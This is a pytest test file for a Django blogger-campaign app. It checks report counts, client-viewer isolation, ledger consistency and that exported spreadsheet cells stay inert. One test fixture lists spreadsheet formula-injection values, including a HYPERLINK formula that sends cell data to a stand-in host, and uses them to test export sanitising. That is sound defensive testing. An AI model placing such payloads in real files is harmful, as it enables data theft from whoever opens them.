"""Confiance: the report says only what the records prove, and a client sees only what is theirs.

One definition of an article that counts, the same on every page and in every file; red only where
our own parcel and a person's confirmation prove it; a declared article analysed like a detected
one; a client viewer who can reach no blogger link, no address and nothing of another client; the
stock ledger where the status says whoever moved the card; inert spreadsheet cells; one clock.
"""

import csv
import io
import re
from datetime import datetime, timedelta
from decimal import Decimal
from urllib.parse import urlsplit
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.test import Client as Browser
from django.urls import URLPattern, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from ambassade.accounts.links import create_link
from ambassade.blogs.models import Blog, Blogger, BloggerEmail
from ambassade.blogs.personal_links import page_token
from ambassade.campaigns.models import ActorKind, Client, Operation, Placement
from ambassade.campaigns.status import Status
from ambassade.farm.demo_data import CLIENT_USER, DEMO_USER, load_demo
from ambassade.giveaways.models import Giveaway
from ambassade.imports.models import ImportJob
from ambassade.lib.http import FetchResult
from ambassade.logistics import ledger
from ambassade.logistics.models import Product, Shipment, Supply
from ambassade.outreach.models import Direction, Message, MessageKind, MessageStatus
from ambassade.reports.data import AGENCY, operation_report
from ambassade.reports.exports import render
from ambassade.watch.coverage import ONLY_AROUND, record_coverage
from ambassade.watch.models import Coverage, CoverageStatus, Post
from ambassade.workflow.articles import article_found

from .conftest import as_sent

PARIS = ZoneInfo("Europe/Paris")


def verdict(product: str, *, subject=True, disclosure="none", cue="", kind="product") -> dict:
    return {"subject": subject, "is_coverage": subject,
            "mentions": [{"kind": kind, "term": product, "snippet": product}],
            "disclosure": {"label": disclosure, "cue": cue}, "giveaway": {"present": False, "cue": "", "deadline": None}}


def found(post, operation, verdict_) -> None:
    """What the veille's pass does with a new post: the coverage, then what it does to the placement."""
    coverage = record_coverage(post, operation, verdict_)
    if coverage is not None:
        article_found(coverage)


def post_on(blog, title: str, published_at, guid: str) -> Post:
    return Post.objects.create(blog=blog, guid=guid, url=f"{blog.url}{guid}", title=title, published_at=published_at)


@pytest.fixture
def demo(db):
    org = load_demo()
    operation = Operation.objects.get(organisation=org, name__startswith="Goûters")
    by_status = {}
    for p in operation.placements.select_related("blog"):
        by_status.setdefault(p.status, []).append(p)
    product = operation.product_names[0]
    # Three kinds of article the old report counted: one published before our first mail, one the veille
    # is not sure of, and one that says "produit offert" though we never sent a parcel.
    pitched = by_status[Status.PITCHED][0]
    before = pitched.first_contact_at() - timedelta(days=4)
    found(post_on(pitched.blog, f"{product} : mon goûter", before, "avant"), operation, verdict(product))
    received = by_status[Status.RECEIVED][0]
    found(post_on(received.blog, "Nos goûters de la semaine", timezone.now(), "doute"), operation,
                    verdict(operation.brand, kind="brand"))
    replied = by_status[Status.REPLIED][0]
    found(post_on(replied.blog, f"Le {product}, offert", timezone.now(), "offert"), operation,
                    verdict(product, disclosure="gifted", cue="Produit offert par la marque"))

    class Demo:
        pass

    d = Demo()
    d.org, d.operation, d.pitched, d.received, d.replied = org, operation, pitched, received, replied
    return d


def _number(pattern: str, page: str) -> int:
    match = re.search(pattern, page, re.S)
    assert match, pattern
    return int(match.group(1))


def test_every_page_and_file_counts_the_same_articles_and_parcels(demo):
    operation = demo.operation
    counting = Coverage.objects.filter(operation=operation).that_count()
    articles = counting.count()
    blogs_with_article = counting.values("placement").distinct().count()
    parcels = Shipment.objects.filter(placement__operation=operation)
    blogs_with_parcel = parcels.values("placement").distinct().count()
    units = sum(s.quantity for s in parcels)
    assert articles == 4  # the demo's three, and the "offert" post after our first mail — nothing else

    report = operation_report(operation)
    assert len(report.articles) == articles and report.units_shipped == units
    stages = {stage: n for stage, _label, n in report.funnel}
    assert stages["published"] == blogs_with_article and stages["shipped"] == blogs_with_parcel
    assert report.cost_per_article == (report.total_cost / articles).quantize(Decimal("0.01"))

    cm = Browser()
    cm.force_login(get_user_model().objects.get(username=DEMO_USER))
    dashboard = cm.get(reverse("dashboard")).content.decode()
    card = next(c for c in dashboard.split('<article class="card op-card">')[1:]
                if operation.name.replace("'", "&#x27;") in c.split("</article>", 1)[0])
    board = cm.get(reverse("operation_detail", args=[operation.pk])).content.decode()
    for page in (card, board):
        assert _number(r'stage-published"><span class="n">(\d+)', page) == blogs_with_article
        assert _number(r'stage-shipped"><span class="n">(\d+)', page) == blogs_with_parcel
    agency_page = cm.get(reverse("operation_report", args=[operation.pk])).content.decode()
    _link, token = create_link(operation.client, days=30, label="test", user=None)
    shared = Browser().get(reverse("shared_operation_report", args=[token, operation.pk])).content.decode()
    viewer = Browser()
    viewer.force_login(get_user_model().objects.get(username=CLIENT_USER))
    viewer_page = viewer.get(reverse("operation_report", args=[operation.pk])).content.decode()
    for page in (agency_page, shared, viewer_page):
        assert _number(r"<strong>(\d+)</strong><span>articles publiés", page) == articles
        assert _number(r"<strong>(\d+)</strong><span>produits expédiés", page) == units
    client_page = viewer.get(reverse("client_report", args=[operation.client_id])).content.decode()
    row = client_page.split(operation.name.replace("'", "&#x27;"), 1)[1].split("</tr>", 1)[0]
    assert re.findall(r'<td class="num">(\d+)</td>', row)[1:3] == [str(units), str(articles)]

    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    summary = {r[0].value: r[1].value for r in book["Synthèse"].iter_rows() if r[0].value}
    assert summary["Articles publiés"] == articles and summary["Produits expédiés"] == units
    assert book["Articles"].max_row - 1 == articles
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode("utf-8-sig")), delimiter=";"))
    assert sum(r[5].startswith("article publié") for r in rows[1:]) == blogs_with_article


def test_an_article_before_our_first_mail_is_spontaneous_and_in_no_ratio(demo):
    report = operation_report(demo.operation)
    assert [a.title for a in report.spontaneous] == [f"{demo.operation.product_names[0]} : mon goûter"]
    assert all(a.title != report.spontaneous[0].title for a in report.articles)
    line = next(b for b in report.bloggers if b.blog == demo.pitched.blog.name)
    assert line.outcome == "contacté, pas de réponse pour l'instant" and not line.has_article
    demo.pitched.refresh_from_db()
    assert demo.pitched.status == Status.PITCHED  # it moved nothing, stopped nothing
    # The same spontaneous article on a blog we never wrote to is spontaneous too.
    assert Coverage.objects.filter(operation=demo.operation).spontaneous().count() == 1


def test_unconfirmed_articles_are_for_the_agency_only(demo):
    doubt = Coverage.objects.get(post__guid="doute")
    assert doubt.status == CoverageStatus.DETECTED and "pas le produit" in doubt.review_reason
    agency = operation_report(demo.operation, audience=AGENCY)
    assert [a.title for a in agency.awaiting] == ["Nos goûters de la semaine"]
    client = operation_report(demo.operation)
    assert not client.awaiting and all(a.title != "Nos goûters de la semaine" for a in client.articles)
    viewer = Browser()
    viewer.force_login(get_user_model().objects.get(username=CLIENT_USER))
    for url in (reverse("dashboard"), reverse("operation_report", args=[demo.operation.pk])):
        page = viewer.get(url).content.decode()
        assert "Nos goûters de la semaine" not in page and "À vérifier" not in page
    demo.received.refresh_from_db()
    assert demo.received.status == Status.RECEIVED  # a doubt publishes nothing
    # ...and yet no "avez-vous publié ?" goes while the agency looks at it.
    from ambassade.outreach.guards import final_reason

    reminder = Message(placement=demo.received, organisation=demo.org, kind=MessageKind.FOLLOW_UP,
                       step="no_article", to_address="x@example.org")
    assert final_reason(reminder) == "article détecté"


def test_red_needs_our_parcel_and_a_persons_confirmation(demo):
    report = operation_report(demo.operation)
    offered = next(a for a in report.articles if a.title.endswith(", offert"))
    assert offered.disclosure_label == "Le billet parle d'un produit offert" and not offered.undisclosed_gift
    red = [a for a in report.articles if a.undisclosed_gift]
    assert len(red) == 1 and red[0].gifted and red[0].confirmed_by_person
    assert "Produit offert non signalé" in render(report, "html").decode()
    # The same article confirmed by the veille alone: never red, and to the client only "being checked".
    coverage = Coverage.objects.get(post__title=red[0].title, operation=demo.operation)
    Coverage.objects.filter(pk=coverage.pk).update(reviewed_by=None)
    again = operation_report(demo.operation)
    article = next(a for a in again.articles if a.title == red[0].title)
    assert not article.undisclosed_gift and article.gift_to_check
    assert article.disclosure_label == "Transparence en cours de vérification"
    assert "non signalé" not in render(again, "html").decode()
    agency = next(a for a in operation_report(demo.operation, audience=AGENCY).articles if a.title == red[0].title)
    assert agency.disclosure_label.startswith("Produit offert non signalé ? À confirmer")


def test_a_declared_article_is_analysed_and_waits_for_the_cm_when_the_brand_is_only_around_it(world, monkeypatch):
    from ambassade.watch import manual
    from ambassade.workflow.articles import add_article

    world.operation.product_names = ["Brassé Vanille"]
    world.operation.save()
    Supply.objects.create(operation=world.operation, product=world.product)
    for step in (Status.SHORTLISTED, Status.PITCHED, Status.ACCEPTED, Status.SHIPPED):
        ledger.move(world.placement, step)
    reminder = Message.objects.create(placement=world.placement, organisation=world.org_a, kind=MessageKind.FOLLOW_UP,
                                      step="no_article", status=MessageStatus.QUEUED, to_address="lea@x.example",
                                      subject="Alors ?", body_text="Bonjour Léa")
    page = ("<html><head><title>Mes crêpes</title></head><body><nav>Accueil</nav><main><article><h1>Mes crêpes du "
            "dimanche</h1><p>" + "La pâte repose une heure, puis on fait sauter les crêpes. " * 20 + "</p></article>"
            "</main><aside><h3>Mes partenaires</h3><ul><li>Delacour</li><li>Brassé Vanille</li></ul></aside></body></html>")
    monkeypatch.setattr(manual, "fetch_one", lambda url: FetchResult(url=url, status=200, body=page.encode(),
                                                                      charset="utf-8"))
    url = world.blog.url + "2026/11/crepes/"
    result = add_article(world.operation.pk, url, None, source="declared")
    coverage = Coverage.objects.get(pk=result["coverage"])
    assert coverage.status == CoverageStatus.DETECTED and coverage.review_reason == ONLY_AROUND
    world.placement.refresh_from_db()
    assert world.placement.status == Status.SHIPPED  # nothing published on the blogger's word alone
    reminder.refresh_from_db()
    assert reminder.status == MessageStatus.CANCELLED and reminder.error == "article déclaré"
    assert not operation_report(world.operation).articles
    # Unreadable: kept, waiting, with why.
    from ambassade.lib.http import FetchError

    def broken(url):
        raise FetchError("http", "HTTP 404")

    monkeypatch.setattr(manual, "fetch_one", broken)
    other = add_article(world.operation.pk, world.blog.url + "2026/11/perdu/", None, source="declared")
    assert Coverage.objects.get(pk=other["coverage"]).review_reason.startswith("page illisible")
    # A page that is about the product counts at once, and publishes the placement.
    good = page.replace("La pâte repose", "Le Brassé Vanille de Delacour (produit offert par Delacour) repose")
    monkeypatch.setattr(manual, "fetch_one", lambda url: FetchResult(url=url, status=200, body=good.encode(),
                                                                      charset="utf-8"))
    add_article(world.operation.pk, world.blog.url + "2026/11/bon/", None, source="declared")
    world.placement.refresh_from_db()
    assert world.placement.status == Status.PUBLISHED and world.placement.events.last().actor == ActorKind.BLOGGER
    assert len(operation_report(world.operation).articles) == 1


def _reserved(placement) -> int:
    return sum(ledger.reserved_for(placement).values())


def _assert_ledger_says_status(placement, product):
    placement.refresh_from_db()
    assert _reserved(placement) == (1 if placement.status == Status.ACCEPTED else 0), placement.status
    shipped = Shipment.objects.filter(placement=placement).exists()
    assert shipped == (placement.status in (Status.SHIPPED, Status.RECEIVED)
                       or placement.events.filter(to_status=Status.SHIPPED).exists())
    assert ledger.available(product) == 5 - sum(_reserved(p) for p in Placement.objects.all()) - sum(
        s.quantity for s in Shipment.objects.all())


@pytest.fixture
def accepted(world):
    Supply.objects.create(operation=world.operation, product=world.product)
    for step in (Status.SHORTLISTED, Status.PITCHED):
        ledger.move(world.placement, step)
    cm = Browser()
    cm.force_login(world.member)
    cm.post(reverse("placement_move", args=[world.placement.pk]), {"status": Status.ACCEPTED})
    _assert_ledger_says_status(world.placement, world.product)
    assert _reserved(world.placement) == 1
    return world.placement


def test_the_ledger_follows_the_status_when_the_cm_declines(world, accepted):
    cm = Browser()
    cm.force_login(world.member)
    cm.post(reverse("placement_move", args=[accepted.pk]), {"status": Status.DECLINED, "note": "plus de place"})
    _assert_ledger_says_status(accepted, world.product)


def test_the_ledger_follows_the_status_when_the_veille_finds_the_article_first(world, accepted):
    world.operation.product_names = ["Brassé Vanille"]
    world.operation.save()
    article_found(record_coverage(post_on(world.blog, "Brassé Vanille", timezone.now(), "tot"), world.operation,
                    verdict("Brassé Vanille")))
    accepted.refresh_from_db()
    assert accepted.status == Status.PUBLISHED
    _assert_ledger_says_status(accepted, world.product)  # the unit held for a parcel that never left is back


def test_the_ledger_follows_the_status_when_the_blogger_objects(world, accepted):
    from ambassade.outreach.optout import opt_out_everywhere

    opt_out_everywhere(world.blogger, "lien d'opposition")
    _assert_ledger_says_status(accepted, world.product)


def test_the_ledger_follows_the_status_from_the_blogger_page(world):
    Supply.objects.create(operation=world.operation, product=world.product)
    for step in (Status.SHORTLISTED, Status.PITCHED):
        ledger.move(world.placement, step)
    url = reverse("portal_proposal", args=[page_token(world.blogger), world.placement.pk])
    Browser().post(url, {"decision": "accepted"})
    _assert_ledger_says_status(world.placement, world.product)
    assert _reserved(world.placement) == 1


def test_the_ledger_follows_the_status_when_the_card_is_shipped_and_received(world, accepted):
    shipment = ledger.ship(accepted, ledger.Parcel("Colissimo", "6A1", "4.95"))
    _assert_ledger_says_status(accepted, world.product)
    ledger.confirm_receipt(shipment, by="blogger")
    _assert_ledger_says_status(accepted, world.product)


def test_a_client_viewer_sees_only_its_clients_messages(world):
    from ambassade.accounts.models import Membership

    own = Placement.objects.create(operation=world.operation, blog=Blog.objects.create(
        organisation=world.org_a, url="https://autre.example/", name="Autre"))
    foreign = Placement.objects.create(operation=world.other_operation, blog=world.blog)
    for p in (own, foreign):
        Message.objects.create(placement=p, organisation=world.org_a, direction=Direction.INBOUND,
                               kind=MessageKind.REPLY, status=MessageStatus.RECEIVED, subject="Re", body_text="ok")
    membership = Membership.objects.get(user=world.viewer)
    assert set(Message.objects.for_membership(membership).values_list("placement", flat=True)) == {own.pk}


# --- A client viewer walks everything -----------------------------------------------------------------

ID_ROUTES = {"imports": ImportJob, "mails": Message, "operations": Operation, "placements": Placement, "clients": Client, "blogs": Blog,
             "blogueurs": Blogger, "produits": Product, "articles": Coverage, "concours": Giveaway}
BLOGGER_LINK = re.compile(r"/(b|opposition|colis)/[A-Za-z0-9._:~-]{8,}")


def _id_urls():
    for pattern in get_resolver().url_patterns:
        if not isinstance(pattern, URLPattern) or "<int:pk>" not in str(pattern.pattern):
            continue
        route = str(pattern.pattern)
        if "<str:" in route:
            continue  # token routes: a client viewer holds no token
        model = ID_ROUTES[route.split("/", 1)[0]]
        for pk in model.objects.values_list("pk", flat=True):
            yield route.replace("<int:pk>", str(pk))


@pytest.mark.django_db(transaction=False)
def test_a_client_viewer_reaches_no_blogger_link_no_address_and_nothing_of_another_client(demo):
    org = demo.org
    delacour = Client.objects.get(organisation=org, name="Laiterie Delacour")
    # Make sure there is something to leak: a live link in a stored mail, addresses on every profile.
    for blogger in Blogger.objects.filter(organisation=org):
        blogger.postal_address = f"{blogger.first_name} {blogger.pk}\n{blogger.pk} rue des Lilas\n69001 Lyon"
        blogger.save(update_fields=["postal_address"])
    secrets = [e.address for e in BloggerEmail.objects.filter(organisation=org)] + ["rue des Lilas"]
    foreign = [c.name for c in Client.objects.filter(organisation=org).exclude(pk=delacour.pk)]
    foreign += list(Operation.objects.filter(organisation=org).exclude(client=delacour).values_list("name", flat=True))
    viewer = Browser()
    viewer.force_login(get_user_model().objects.get(username=CLIENT_USER))
    todo = ["/", *(f"/{u}" for u in _id_urls())]
    seen, pages = set(), 0
    while todo:
        url = todo.pop()
        if url in seen or len(seen) > 3000:
            continue
        seen.add(url)
        response = viewer.get(url)
        if response.status_code in (301, 302):
            todo.append(response["Location"])
            continue
        if response.status_code != 200 or not response.get("Content-Type", "").startswith("text/html"):
            continue
        pages += 1
        body = response.content.decode()
        assert not BLOGGER_LINK.search(body), (url, BLOGGER_LINK.search(body).group(0))
        for secret in secrets + foreign:
            assert secret.replace("'", "&#x27;") not in body and secret not in body, (url, secret)
        assert "Ce qui a besoin de vous" not in body and "Articles détectés par la veille" not in body, url
        for href in re.findall(r'href="([^"#]+)"', body):
            parts = urlsplit(href)
            if not parts.netloc and parts.path.startswith("/") and not parts.path.startswith(("/static/", "/admin/")):
                todo.append(parts.path + (f"?{parts.query}" if parts.query and "format=" not in parts.query else ""))
    assert pages >= 4  # the dashboard, the operations, a report, the client's page at least
    # The viewer's own report files say nothing more than the page.
    for fmt in ("csv", "html"):
        data = viewer.get(reverse("operation_report", args=[demo.operation.pk]) + f"?format={fmt}").content.decode()
        assert not BLOGGER_LINK.search(data) and not any(s in data for s in secrets + foreign)


# --- Files: inert cells, one clock --------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+33 6 12 34 56 78", "-2+3", "@SUM(1+1)", "=1+1"]


def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text():
    from ambassade.reports.exports import inert

    for value in ["=1+1", "+33", "-2+3", "@SUM(A1)", "\tx", "\rx"]:
        assert inert(value) == "'" + value
    assert inert("Blog de Léa") == "Blog de Léa" and inert(3) == 3 and inert("") == ""


def test_exports_write_every_hostile_cell_as_text_through_import_and_report(world, tmp_path):
    source = tmp_path / "hostile.csv"
    with source.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out, delimiter=";")
        writer.writerow(["blog_url", "blog_name", "email", "first_name"])
        for i, name in enumerate(HOSTILE):
            writer.writerow([f"https://hostile{i}.example/", name, f"p{i}@hostile{i}.example", f"P{i}"])
    call_command("import", str(source), "--org", world.org_a.slug, stdout=io.StringIO())
    for blog in Blog.objects.filter(url__contains="hostile"):
        ledger.move(Placement.objects.create(operation=world.operation, blog=blog), Status.SHORTLISTED)
    report = operation_report(world.operation)
    names = {b.blog for b in report.bloggers}
    assert set(HOSTILE) <= names  # stored as written: the page shows what the blogger called the blog
    text = render(report, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    for name in HOSTILE:
        assert "'" + name in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    blog_cells = [row[0].value for row in book["Blogs"].iter_rows(min_row=2)]
    assert set(HOSTILE) <= set(blog_cells)  # text, readable as written


def test_every_date_in_the_files_is_paris_time(world):
    Supply.objects.create(operation=world.operation, product=world.product)
    for step in (Status.SHORTLISTED, Status.PITCHED, Status.ACCEPTED):
        ledger.move(world.placement, step)
    late = datetime(2026, 10, 29, 23, 30, tzinfo=ZoneInfo("UTC"))  # 30/10 at 00:30 in Paris
    ledger.ship(world.placement, ledger.Parcel("Colissimo", "6A2", "4.95"), at=late)
    report = operation_report(world.operation, now=late)
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode("utf-8-sig")), delimiter=";"))
    assert rows[1][7] == "2026-10-30"
    book = load_workbook(io.BytesIO(render(report, "xlsx")))
    summary = {r[0].value: r[1].value for r in book["Synthèse"].iter_rows() if r[0].value}
    assert summary["Établi le"] == late.astimezone(PARIS).replace(tzinfo=None)
    assert book["Blogs"]["H2"].value.date().isoformat() == "2026-10-30"
    assert "30/10/2026" in render(report, "html").decode()


def test_stored_mails_hold_placeholders_and_the_migration_scrubs_old_ones(world):
    from importlib import import_module

    from django.apps import apps

    live = "https://ambassade.example/b/" + page_token(world.blogger) + "/"
    message = Message.objects.create(placement=world.placement, organisation=world.org_a, subject="x",
                                     body_text=f"Votre page : {live}\nStop : https://ambassade.example/opposition/abc.def123456/",
                                     to_address="lea@cuisine-de-lea.example")
    import_module("ambassade.outreach.migrations.0004_scrub_live_links").scrub(apps, None)
    message.refresh_from_db()
    assert message.body_text == "Votre page : [lien personnel]\nStop : [lien de désinscription]"


def test_the_cm_resends_a_personal_link_without_ever_seeing_it(client, world):
    client.force_login(world.member)
    page = client.get(reverse("blogger_detail", args=[world.blogger.pk])).content.decode()
    assert "Lui renvoyer le lien de sa page" in page and not BLOGGER_LINK.search(page)
    client.post(reverse("blogger_send_link", args=[world.blogger.pk]))
    mail = Message.objects.get(step="page_link")
    assert "[lien personnel]" in mail.body_text and not BLOGGER_LINK.search(mail.body_text)
    token = re.search(r"/b/([^/\s]+)/", as_sent(mail)).group(1)
    assert Browser().get(reverse("portal", args=[token])).status_code == 200
    client.force_login(world.viewer)
    assert client.post(reverse("blogger_send_link", args=[world.blogger.pk])).status_code == 403


def test_the_first_contact_day_is_a_paris_day_even_near_midnight(world):
    """Contacted at 23:30 UTC (00:30 in Paris, the next day): an article found ten minutes later counts;
    one from 22:00 UTC (23:00 in Paris, the day before) is spontaneous."""
    from ambassade.campaigns.models import PlacementEvent

    late = datetime(2026, 11, 29, 23, 30, tzinfo=ZoneInfo("UTC"))
    ledger.move(world.placement, Status.SHORTLISTED, at=late - timedelta(days=1))
    ledger.move(world.placement, Status.PITCHED, at=late)
    assert PlacementEvent.objects.filter(placement=world.placement, to_status=Status.PITCHED).get().at == late
    after = record_coverage(post_on(world.blog, "Mon Brassé", late + timedelta(minutes=10), "apres"),
                            world.operation, verdict("Brassé Vanille"))
    before = record_coverage(post_on(world.blog, "Mon Brassé, déjà", late - timedelta(minutes=90), "avant"),
                             world.operation, verdict("Brassé Vanille"))
    coverages = Coverage.objects.filter(operation=world.operation)
    assert list(coverages.that_count().values_list("pk", flat=True)) == [after.pk]
    assert list(coverages.spontaneous().values_list("pk", flat=True)) == [before.pk]
